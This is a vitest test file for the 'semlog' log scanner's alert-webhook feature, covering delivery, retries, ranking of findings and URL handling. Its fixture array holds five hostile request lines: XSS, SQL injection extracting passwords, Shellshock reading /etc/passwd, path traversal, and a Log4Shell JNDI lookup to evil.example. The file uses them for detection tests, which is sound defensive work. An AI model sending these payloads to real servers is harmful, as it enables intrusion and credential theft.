// `scan --alert-webhook`: the real bin posting to a local server that records the body; the local
// report is written first, and a failed delivery is a warning and exit 5, never a lost report.

import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { AlertPayload } from '../../src/alert/alert-payload.js';
import { hasAttackBehaviour } from '../../src/clients/client-rank.js';
import { startRecordingServer, type RecordingServer } from '../helpers/recording-server.js';
import { FIXTURE, runCli } from './run-cli.js';

let servers: RecordingServer[] = [];
afterEach(async () => {
  await Promise.all(servers.map((s) => s.close()));
  servers = [];
});

async function hook(status = 200): Promise<RecordingServer> {
  const server = await startRecordingServer(() => ({ status, body: status === 200 ? 'ok' : 'no_service' }));
  servers.push(server);
  return server;
}

const outDir = () => mkdtempSync(join(tmpdir(), 'semlog-alert-'));

/** The fixture with one request each from five attackers: XSS, sqlmap, Shellshock, path traversal, Log4Shell. */
const ATTACKS = [
  '10.66.0.1 - - [17/May/2015:10:10:00 +0000] "GET /search?q=<script>alert(document.cookie)</script> HTTP/1.1" 200 512 "-" "<script>alert(1)</script>"',
  '10.66.0.2 - - [17/May/2015:10:11:00 +0000] "GET /item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1" 200 512 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"',
  '10.66.0.3 - - [17/May/2015:10:12:00 +0000] "GET /cgi-bin/test.cgi HTTP/1.1" 200 512 "-" "() { :; }; /bin/bash -c \\"cat /etc/passwd\\""',
  '10.66.0.4 - - [17/May/2015:10:13:00 +0000] "GET /download?file=../../../../etc/passwd HTTP/1.1" 200 512 "-" "curl/7.68.0"',
  '10.66.0.5 - - [17/May/2015:10:14:00 +0000] "GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1" 200 512 "-" "${jndi:ldap://evil.example/a}"',
];

function attackLog(): string {
  const lines = readFileSync(FIXTURE, 'utf8').trimEnd().split('\n');
  ATTACKS.forEach((attack, k) => lines.splice(50 + k * 50, 0, attack));
  const file = join(outDir(), 'access.log');
  writeFileSync(file, `${lines.join('\n')}\n`);
  return file;
}

describe('semlog scan --alert-webhook', () => {
  it('posts the summary and the top findings when a finding reaches --fail-on', async () => {
    const server = await hook();
    const out = join(outDir(), 'report.json');
    const result = await runCli(['scan', FIXTURE, '--no-cache', '--fail-on', '5', '--output', 'json', '--out', out, '--alert-webhook', `${server.url}/services/T0/secret`]);
    expect(result.code, result.stderr).toBe(1);
    expect(result.stderr).toBe(`semlog: alert sent to webhook ${server.url}\n`);
    expect(server.requests).toHaveLength(1);
    const payload = JSON.parse(server.requests[0]!.body) as AlertPayload;
    const report = JSON.parse(readFileSync(out, 'utf8')) as { lines: Array<{ score: number }>; ips: Array<{ score: number }> };
    const over = [...report.lines, ...report.ips].filter((f) => f.score >= 5).length;
    expect(payload.semlog).toMatchObject({ version: 1, failOn: 5, sources: [FIXTURE], reports: [out], summary: { records: 300, files: 1 } });
    expect(payload.semlog.reached.ips + payload.semlog.reached.lines).toBe(over);
    expect(payload.semlog.topFindings).toHaveLength(Math.min(10, over));
    expect(payload.semlog.topFindings.every((f) => f.score >= 5)).toBe(true);
    expect(payload.text.split('\n')[0]).toBe(`semlog: ${over} findings scored at least 5 in \`${FIXTURE}\` (300 records from 1 file)`);
  });

  it("lists the findings in the report's order: attackers above busy harmless clients, and their requests too", async () => {
    const server = await hook();
    const out = join(outDir(), 'report.json');
    const result = await runCli(['scan', attackLog(), '--no-cache', '--fail-on', '5', '--output', 'json', '--out', out, '--alert-webhook', server.url]);
    expect(result.code, result.stderr).toBe(1);
    const { semlog, text } = JSON.parse(server.requests[0]!.body) as AlertPayload;
    const report = JSON.parse(readFileSync(out, 'utf8')) as {
      ips: Array<{ ip: string; score: number; labels: string[] }>;
      lines: Array<{ file: string; line: number; score: number; attack: boolean }>;
    };
    const ips = report.ips.filter((f) => f.score >= 5);
    const lines = report.lines.filter((f) => f.score >= 5);
    // The report ranks one-request attackers above a busier harmless client with a higher score (46.105.14.53, one feed over and over).
    const scores = (attacks: boolean) => ips.filter((f) => hasAttackBehaviour(f.labels) === attacks).map((f) => f.score);
    expect(Math.max(...scores(false))).toBeGreaterThan(Math.min(...scores(true)));
    const top = semlog.topFindings;
    // Each kind as the report ranks it, from its first.
    const topIps = top.flatMap((f) => (f.kind === 'ip' ? [f.ip] : []));
    const topLines = top.flatMap((f) => (f.kind === 'line' ? [`${f.file}:${f.line}`] : []));
    expect(topIps).toEqual(ips.slice(0, topIps.length).map((f) => f.ip));
    expect(topLines).toEqual(lines.slice(0, topLines.length).map((f) => `${f.file}:${f.line}`));
    // Every finding with attack evidence before every one without; all five attackers and their requests are in.
    const attack = top.map((f) => (f.kind === 'ip' ? hasAttackBehaviour(ips.find((c) => c.ip === f.ip)!.labels) : lines.find((l) => l.line === f.line)!.attack));
    expect(attack.indexOf(false)).toBeGreaterThan(attack.lastIndexOf(true));
    expect(topIps.slice(0, 5).sort()).toEqual(['10.66.0.1', '10.66.0.2', '10.66.0.3', '10.66.0.4', '10.66.0.5']);
    const attackLines = lines.filter((l) => l.attack).map((l) => `${l.file}:${l.line}`);
    expect(attackLines.length).toBeGreaterThan(0);
    expect(topLines).toEqual(expect.arrayContaining(attackLines));
    expect(text.split('\n')[1]).toMatch(/^• client `10\.66\.0\.\d` scored/);
  });

  it('sends nothing when no finding reaches --fail-on', async () => {
    const server = await hook();
    const result = await runCli(['scan', FIXTURE, '--no-cache', '--fail-on', '1000', '--alert-webhook', server.url, '--quiet']);
    expect(result.code, result.stderr).toBe(0);
    expect(server.requests).toHaveLength(0);
  });

  it('a failed delivery is one warning line and exit 5; the report and the HTML are written', async () => {
    const server = await hook(500);
    const dir = outDir();
    const result = await runCli([
      'scan', FIXTURE, '--no-cache', '--fail-on', '5', '--output', 'json', '--out', join(dir, 'r.json'), '--html', join(dir, 'r.html'),
      '--alert-webhook', `${server.url}/services/T0/secret`,
    ]);
    expect(result.code).toBe(5);
    expect(result.stderr).toBe(`semlog: warning: alert not delivered: webhook ${server.url} answered HTTP 500: no_service\n`);
    expect(server.requests).toHaveLength(2); // one retry
    expect((JSON.parse(readFileSync(join(dir, 'r.json'), 'utf8')) as { summary: { records: number } }).summary.records).toBe(300);
    expect(existsSync(join(dir, 'r.html'))).toBe(true);
  });

  it('reads the URL from an environment variable with env:NAME, so that it stays out of the process list', async () => {
    const server = await hook();
    const env = { ...process.env, SEMLOG_TEST_HOOK: `${server.url}/services/T0/secret` };
    const result = await runCli(['scan', FIXTURE, '--no-cache', '--fail-on', '5', '--output', 'json', '--alert-webhook', 'env:SEMLOG_TEST_HOOK'], { env });
    expect(result.code, result.stderr).toBe(1);
    expect(result.stderr).toBe(`semlog: alert sent to webhook ${server.url}\n`);
    expect(server.requests.map((r) => r.url)).toEqual(['/services/T0/secret']);
    const unset = await runCli(['scan', FIXTURE, '--fail-on', '5', '--alert-webhook', 'env:SEMLOG_NO_SUCH_HOOK']);
    expect(unset.code).toBe(2);
    expect(unset.stderr).toMatch(/^semlog: --alert-webhook env:SEMLOG_NO_SUCH_HOOK: the environment variable SEMLOG_NO_SUCH_HOOK is not set\nhint: /);
    expect(server.requests).toHaveLength(1);
  });

  it('refuses a URL with a user name or password before scanning, without printing them or the path (exit 2)', async () => {
    const server = await hook();
    const url = `http://user:pw@${server.url.slice('http://'.length)}/services/T0/secret`;
    const result = await runCli(['scan', FIXTURE, '--no-cache', '--fail-on', '5', '--output', 'json', '--alert-webhook', url]);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(new RegExp(`^semlog: --alert-webhook ${server.url}: the URL carries a user name or password, which semlog does not send\nhint: `));
    expect(result.stderr).not.toMatch(/user:pw|pw@|T0\/secret/);
    // Nothing scanned, nothing sent.
    expect(result.stdout).toBe('');
    expect(server.requests).toHaveLength(0);
  });

  it('needs --fail-on, and says so before scanning', async () => {
    const result = await runCli(['scan', FIXTURE, '--alert-webhook', 'https://hooks.slack.com/services/x']);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/^semlog: --alert-webhook and --alert-sns need --fail-on\nhint: /);
    const bad = await runCli(['scan', FIXTURE, '--fail-on', '5', '--alert-sns', 'my-topic']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('is not an SNS topic ARN');
  });
});
